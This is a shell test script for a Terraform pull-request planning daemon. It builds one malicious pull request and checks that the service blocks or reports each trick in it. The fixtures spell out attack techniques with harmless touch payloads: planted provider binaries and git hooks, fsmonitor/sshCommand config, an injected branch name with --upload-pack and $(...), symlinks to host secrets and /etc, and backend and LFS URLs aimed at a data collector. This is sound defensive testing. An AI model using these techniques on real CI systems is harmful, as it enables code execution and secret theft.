# What a pull request can bring along: each fixture is a project of one repository, planned by the daemon with the real engine. Beside it on the
# host lie a secret, somebody else's module, mirror and state, and a collector waits for what is stolen.
# time limit: 150
. "$(dirname "$0")/lib.sh"

sql() { sqlite3 -cmd '.timeout 5000' "$tmp/data/sluice.db" "$1"; }
of_repo() { state | jq -r --arg r "$repo" ".repositories[] | select(.full_name == \$r) | $1"; }
bare() { git --git-dir="$bare" "$@"; }
# entry MODE PATH: into the next commit, content from standard input; for a submodule it is the commit
entry() {
	if [ "$1" = 160000 ]; then entry_id=$(cat); else entry_id=$(bare hash-object -w --stdin); fi
	GIT_INDEX_FILE=$tmp/index bare update-index --add --cacheinfo "$1,$entry_id,$2"
}
# host_things: what would be worth stealing
host_things() {
	host=$tmp/host
	mkdir "$host" "$host/module"
	echo 'host-secret-of-the-service' >"$host/secret"
	printf 'output "x" {\n  value = "module-of-somebody-else"\n}\n' >"$host/module/main.tf"
	printf '{"version":4,"terraform_version":"1.5.0","serial":1,"lineage":"x","outputs":{"password":{"value":"state-of-somebody-else","type":"string"}},"resources":[]}' >"$host/other.tfstate"
	git init -q "$host/work" && cp "$host/module/main.tf" "$host/work/" && git -C "$host/work" add main.tf &&
		git -C "$host/work" -c user.name=x -c user.email=x@example.com commit -qm x && git clone -q --bare "$host/work" "$host/other.git"
}
# every_fixture: each one an entry of the next commit, with the places of this run
every_fixture() {
	(cd "$fixtures" && find . -type f | sort) | sed 's|^\./||' >"$tmp/fixtures"
	while read -r file; do
		sed "s|@HOST@|$host|g; s|@PORT@|$collector|g" "$fixtures/$file" | entry 100644 "$file"
	done <"$tmp/fixtures"
}
# What is not a file of text: links, submodules, repositories in the repository, state and tools of the engine.
odd_entries() {
	printf 'output "x" {\n  value = 1\n}\n' >"$tmp/plain.tf"
	for dir in 02-provider 05-lock 03-installed 15-modules 22-tfvars 34-backend 35-workspace 47-state 48-plan 49-bare 50-submodule 51-lfs 51-pointer 52-filter \
		54-blob 58-newline 58-git 90-climbing; do
		entry 100644 "$dir/main.tf" <"$tmp/plain.tf"
	done
	lying='#!/bin/sh
touch '$host'/ran-02
'
	printf '%s' "$lying" | entry 100755 02-provider/terraform.d/plugins/registry.example/x/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0
	printf '%s' "$lying" | entry 100755 03-installed/.terraform/providers/registry.example/x/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0
	printf 'provider "registry.terraform.io/hashicorp/random" {\n  version = "3.6.0"\n  hashes = [\n    "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",\n  ]\n}\n' |
		entry 100644 05-lock/.terraform.lock.hcl
	printf 'terraform {\n  required_providers {\n    random = {\n      source  = "hashicorp/random"\n      version = "3.6.0"\n    }\n  }\n}\nresource "random_id" "x" {\n  byte_length = 1\n}\n' |
		entry 100644 05-lock/main.tf
	printf '{"Modules":[{"Key":"","Source":"","Dir":"."},{"Key":"m","Source":"./m","Dir":".terraform/hidden"}]}' | entry 100644 15-modules/.terraform/modules/modules.json
	printf '%s' "$host/secret" | entry 120000 22-tfvars/terraform.tfvars
	printf '{"version":3,"backend":{"type":"http","config":{"address":"http://127.0.0.1:%s/state?who=34"}}}' "$collector" | entry 100644 34-backend/.terraform/terraform.tfstate
	printf prod | entry 100644 35-workspace/.terraform/environment
	printf '{"version":4,"serial":9,"lineage":"planted","outputs":{},"resources":[]}' | entry 100644 47-state/terraform.tfstate
	printf '%s' "../../../../../../../..$host/victim" | entry 120000 48-plan/plan.out
	printf 'ref: refs/heads/main\n' | entry 100644 49-bare/HEAD
	printf '[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = touch %s/ran-49\n\tsshCommand = touch %s/ran-49\n' "$host" "$host" | entry 100644 49-bare/config
	printf x | entry 100644 49-bare/objects/info/x
	printf x | entry 100644 49-bare/refs/heads/x
	printf '[submodule "s"]\n\tpath = 50-submodule/s\n\turl = http://127.0.0.1:%s/git?who=50\n\tupdate = !touch %s/ran-50\n' "$collector" "$host" | entry 100644 .gitmodules
	echo 0123456789012345678901234567890123456789 | entry 160000 50-submodule/s
	printf '[lfs]\n\turl = http://127.0.0.1:%s/lfs?who=51\n' "$collector" | entry 100644 .lfsconfig
	printf '*.bin filter=lfs diff=lfs merge=lfs\n' | entry 100644 51-lfs/.gitattributes
	printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%064d\nsize 5\n' 1 | entry 100644 51-pointer/x.bin
	printf '*.tf export-ignore -diff linguist-generated\n' | entry 100644 56-hidden/.gitattributes
	printf '*.tf filter=evil\n' | entry 100644 52-filter/.gitattributes
	printf '#!/bin/sh\ntouch %s/ran-52\n' "$host" | entry 100755 .githooks/post-checkout
	printf 'x' | entry 100644 "58-newline/a
b$(printf '\033')[2J.txt"
	printf '%s' '../../../../../../../../../../etc' | entry 120000 90-climbing/there
	printf '%s' 'there/../../../../../../..' | entry 120000 90-climbing/back
}
# unnatural TREE: with a directory in it that git itself does not make: one that some file systems take for .git, holding a hook
unnatural() {
	unnatural_blob=$(printf '#!/bin/sh\ntouch %s/ran-58\n' "$host" | bare hash-object -w --stdin)
	unnatural_hooks=$(printf '100755 blob %s\tpost-checkout\n' "$unnatural_blob" | bare mktree)
	unnatural_git=$(printf '040000 tree %s\thooks\n' "$unnatural_hooks" | bare mktree)
	unnatural_dir=$({ bare ls-tree "$1:58-git"; printf '040000 tree %s\t.GIT\n' "$unnatural_git"; } | bare mktree)
	{ bare ls-tree "$1" | grep -v '	58-git$'; printf '040000 tree %s\t58-git\n' "$unnatural_dir"; } | bare mktree
}
# The base has the same projects with nothing in them; the pull request is one commit.
one_pull_request() {
	repo=acme/attacks
	bare=
	(cd "$fixtures" && ls -d [0-9]*) >"$tmp/projects"
	printf '%s\n' 02-provider 05-lock 03-installed 15-modules 22-tfvars 34-backend 35-workspace 47-state 48-plan 49-bare 50-submodule 51-lfs 51-pointer 52-filter 54-blob 58-newline 58-git \
		90-climbing >>"$tmp/projects"
	sort -o "$tmp/projects" "$tmp/projects"
	jq -nRc '[inputs] | ("version: 1\nprojects:\n" + (map("  - { name: p\(.), dir: \(.) }\n") | add)) as $y |
		(map({("\(.)/versions.tf"): "# nothing yet\n"}) | add) + {"sluice.yaml": $y, "05-lock/.terraform.lock.hcl":
			"provider \"registry.terraform.io/hashicorp/random\" {\n  version = \"3.6.0\"\n  hashes = [\n    \"h1:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB=\",\n  ]\n}\n"}
	' <"$tmp/projects" | new_repo "$repo"
	bare=$(of_repo .git_dir)
	GIT_INDEX_FILE=$tmp/index bare read-tree main
	every_fixture
	odd_entries
	printf 'version: 1\nprojects:\n  - { name: taken-16, dir: 01-external, approvals: { count: 0 } }\n' | entry 100644 sluice.yaml
	tree=$(GIT_INDEX_FILE=$tmp/index bare write-tree)
	tree=$(unnatural "$tree")
	sha=$(echo attack | bare -c user.name='Chief Officer' -c user.email=chief@example.com commit-tree -p main "$tree")
	branch='--upload-pack=touch${IFS}ran-55;$(touch${IFS}ran-55)`touch${IFS}ran-55`'
	bare update-ref "refs/heads/$branch" "$sha"
	act sync "$(jq -nc --arg r "$repo" '{repo: $r, user: "alice"}')"
	open_pull "$branch" alice
	wait_ms=100000
	check 'the pull request with everything in it is planned' wait_for "by=$WRITER" context=sluice state=failure
	settle
	body=$(body)
	warned=$(printf '%s\n' "$body" | sed -n '/Look at this before you approve/,/^| project/p')
}
# said_of PROJECT: its error in the database, and all that its engine said
said_of() {
	sql "SELECT coalesce(j.error,'') FROM job j JOIN run r ON r.id=j.run_id WHERE r.repo='$repo' AND j.project='p$1' AND j.phase='plan' ORDER BY j.id DESC LIMIT 1"
	said_id=$(sql "SELECT j.id FROM job j JOIN run r ON r.id=j.run_id WHERE r.repo='$repo' AND j.project='p$1' AND j.phase='plan' ORDER BY j.id DESC LIMIT 1")
	cat "$tmp/data/logs/$said_id.log" 2>/dev/null
}
state_of() { sql "SELECT j.state FROM job j JOIN run r ON r.id=j.run_id WHERE r.repo='$repo' AND j.project='p$1' AND j.phase='plan' ORDER BY j.id DESC LIMIT 1"; }
outside_fences() { awk '/^```/ { inside = !inside; next } !inside'; }
ran() { ls "$host" | grep "^ran-$1"; }
came() { collected | grep "who=$1\|/who/$1\|$1"; }

begin_attacks
need git
need sqlite3
use_engine "$(engines | head -n 1)" || { echo "skip repository: no engine on PATH, in parts/bin or in build/engine"; exit 0; }
start_collector
host_things
start_github
start_daemon DAEMON_SECRET=daemon-18 TF_CLI_ARGS_plan=-destroy TF_LOG=trace LD_PRELOAD=/nonexistent.so
one_pull_request
[ -z "${ATTACKS_KEEP:-}" ] || { for p in $(cat "$tmp/projects"); do echo "=== $p"; said_of "$p" | head -c 1500; done; echo "$body"; collected; ls "$host"; }

# Both would be seen: the collector hears, and a program that ran would have left its mark.
curl -s --max-time 5 "http://127.0.0.1:$collector/?who=nobody" >"$tmp/answer" 2>&1
same 'the collector hears' 1 "$(came nobody | wc -l | tr -d ' ')"
touch "$host/ran-00"
same 'a mark is seen' ran-00 "$(ran 00)"

# ---- programs that start by themselves ----
stopped 1 'a program of a data source does not run' same '' "$(ran 01)"
stopped 1 'its provider is not there' says hashicorp/external "$(said_of 01-external)"
stopped 2 'a provider in the tree is refused by name' says 'terraform.d is tracked in git' "$(said_of 02-provider)"
stopped 3 'an installed provider in the tree is refused by name' says '.terraform is tracked in git' "$(said_of 03-installed)"
stopped 3 'neither of them ran' same '' "$(ran 02)"
stopped 4 'a lookalike of a provider is not fetched' says hashlcorp/aws "$(said_of 04-lookalike)"
stopped 4 'and its project has no plan' same failed "$(state_of 04-lookalike)"
stopped 5 'hashes that the base branch has are not taken away' says 'takes away hashes' "$(said_of 05-lock)"
stopped 8 'the environment of the daemon does not reach the engine' says '1 to add' "$(said_of 09-local-exec)"
stopped 9 'a provisioner does not run while planning' same '' "$(ran 09)"
stopped 12 'a module on the host is not asked for' same '' "$(came 12)"
stopped 12 'and what it would have pointed at is not loaded' same failed "$(state_of 12-redirected)"
stopped 13 'a module without a host of its own is not taken from a public registry' same failed "$(state_of 13-confused)"
stopped 15 'a list of installed modules in the tree is refused by name' says '.terraform is tracked in git' "$(said_of 15-modules)"
stopped 16 'configuration of the pull request is not used' says_not taken-16 "$(sql "SELECT group_concat(project) FROM job")"
told 16 'and it is said when it will be' says 'takes effect after the merge' "$body"

told 9 'a provisioner is named' says '`local-exec` provisioner' "$warned"
told 13 'a module at no fixed version is named' says 'in no fixed version' "$warned"
told 14 'an override is named' says '14-override/zz_override.tf' "$warned"
told 14 'and configuration in JSON' says '14-json/shadow.tf.json' "$warned"

# ---- things of others ----
stopped 17 'an engine cannot read its own environment' says no-such-file-17 "$(said_of 17-environment)"
stopped 18 'the environment of the daemon is nowhere' says_not daemon-18 "$(said_of 18-parents)"
stopped 18 'and the engine did look' says found-18 "$(said_of 18-parents)"
stopped 21 'files of the host are not there' same 4 "$(said_of 21-host-files | grep -c 'nothing-21\|database = 0\|around *= 0')"
stopped 21 'nor for a template' same failed "$(state_of 21-template)"
stopped 21 'nor as a module' same failed "$(state_of 21-host-module)"
stopped 22 'a link to a file of the host is refused' says '22-tfvars/terraform.tfvars is a symbolic link that' "$(said_of 22-tfvars)"
stopped 23 'the mirror of another repository is not there' same failed "$(state_of 23-other-mirror)"
stopped 24 'the state of another project is not there' same failed "$(state_of 24-other-state)"
stopped 21 'nothing of it was told to GitHub' says_not secret-of-the-service "$(state)"
stopped 23 'nothing of it was told to GitHub' says_not of-somebody-else "$(state)"
stopped 25 'the metadata of the machine are out of reach' same failed "$(state_of 25-metadata)"
stopped 25 'a collector is not called' same '' "$(came 25)"
stopped 26 'discovery does not reach the host' same 'refused failed ' "$(state_of 26-discovery) $(state_of 26-registry) $(came 26)"
stopped 31 'the debug log of an engine is not switched on from outside' says_not TRACE "$(said_of 09-local-exec)"
not_stopped 28 'a value that the plan holds can be shown in another form' says 'k 3 y - 0 f - 2 8 - k 3 y' "$(said_of 28-masking)"
not_stopped 29 'and be told in the text of an error' says 'k 3 y - 0 f - 2 9 - k 3 y' "$(said_of 29-error-text)"
told 28 'a value that is uncovered is named' says '28-masking/main.tf:8' "$warned"
told 29 'likewise in the text of an error' says '29-error-text/main.tf:10' "$warned"
stopped 30 'a secret of a plan is nowhere on disk in clear' same '' "$(grep -rl 'k3y-0f-30-k3y' "$tmp/data" | head -n 3)"
stopped 30 'nor in a comment' says_not 'k3y-0f-30-k3y' "$(state)"
stopped 30 'and the plan has it' says 'sensitive value' "$(said_of 30-secret)"

# ---- state ----
not_stopped 36 'a variables file is loaded by itself, and its effect is in the plan' says 'input  = 36' "$(said_of 36-tfvars)"
stopped 33 'the backend of an override does not get the state' same ' refused' "$(came 33) $(state_of 33-backend)"
told 33 'and the override is named' says '33-backend/backend_override.tf' "$warned"
stopped 34 'a recorded backend in the tree is refused by name' says '.terraform is tracked in git' "$(said_of 34-backend)"
stopped 35 'a chosen workspace in the tree is refused by name' says '.terraform is tracked in git' "$(said_of 35-workspace)"
stopped 37 'state in the tree is refused by name' says 'state has a home in sluice' "$(said_of 47-state)"
told 40 'an import is counted' says '1 to import' "$body"

told 40 'and named' says '40-imported/main.tf:1' "$warned"
told 39 'what is taken out of the state and left alive is named' says 'takes `terraform_data.kept` out of the state and leaves it alive' "$warned"

# ---- git ----
stopped 47 'no hook or setting of the tree runs' same '' "$(ran '4[0-9]')"
stopped 48 'a plan is not written through a link of the tree' says 'symbolic link that points out of the repository' "$(said_of 48-plan)"
stopped 48 'and nothing was' check test ! -e "$host/victim"
stopped 49 'a repository inside the repository is only files' same 'done ' "$(state_of 49-bare) $(ran 49)"
stopped 50 'a submodule is not fetched' same ' ' "$(came 50) $(ran 50)"
stopped 50 'and refused by name' says 'git submodule' "$(said_of 50-submodule)"
stopped 51 'nobody asks for large files' same '' "$(came 51)"
stopped 51 'and a pointer is not taken for the file' says 'Git LFS pointer' "$(said_of 51-pointer)"
stopped 52 'filters and hooks of the tree do not run' same 'done ' "$(state_of 52-filter) $(ran 52)"
stopped 55 'no shell sees the name of the branch' same '' "$(find "$tmp" "$PWD" "$root" -maxdepth 3 -name 'ran-55*' 2>/dev/null)"
stopped 56 'what attributes hide from a review is planned' says hidden-56 "$(said_of 56-hidden)"
told 56 'and the attribute is named' says '56-hidden/.gitattributes:1' "$warned"
stopped 57 'the name in the commit is not asked for anything' says_not 'Chief Officer' "$(state)"
stopped 58 'a name with a line break and an escape is refused' says 'control characters' "$(said_of 58-newline)"
stopped 58 'a directory that other systems take for .git is refused' says 'is a git directory' "$(said_of 58-git)"
stopped 58 'and nothing of it ran' same '' "$(ran 58)"
stopped 90 'a link that climbs through another one is refused' says 'points out of the repository' "$(said_of 90-climbing)"

# ---- text ----
stopped 71 'no markup of an error is markup in the comment' same '' "$(printf '%s\n' "$body" | outside_fences | grep '<img\|</table>\|@org\| #1 ')"
stopped 71 'and its fence does not end ours' same 0 "$(($(printf '%s\n' "$body" | grep -c '^```') % 2))"
stopped 72 'no escape sequence is left' same '' "$(state | tr -d '\n' | grep -o '\\u001b' | head -n 1)"
told 73 'text that runs backwards is named' says '<U+202E>' "$warned"
told 73 'and a word of two alphabets' says 'mixes letters of two scripts' "$warned"
stopped 74 'nothing reads as an order to who shows a log' says_not '::error' "$(said_of 71-markup)"
stopped 74 'nor does a text that says so make a plan without changes' same failed "$(state_of 71-markup)"
stopped 75 'a marker in an error is not one of ours' same 1 "$(main_comments | jq length)"

# ---- an object that is larger than it looks ----
GIT_INDEX_FILE=$tmp/index bare read-tree main
head -c 70000000 /dev/zero | entry 100644 54-blob/zeros.bin
tree=$(GIT_INDEX_FILE=$tmp/index bare write-tree)
bare update-ref refs/heads/large "$(echo large | bare -c user.name=alice -c user.email=a@example.com commit-tree -p main "$tree")"
act sync "$(jq -nc --arg r "$repo" '{repo: $r, user: "alice"}')"
open_pull large alice
check 'a pull request with a large object is planned' wait_for "by=$WRITER" context=sluice state=failure
stopped 54 'and not written' same '' "$(find "$tmp/data/trees" -name zeros.bin)"
stopped 54 'a file larger than allowed is refused by its size' says 'larger than' "$(said_of 54-blob)"
finish
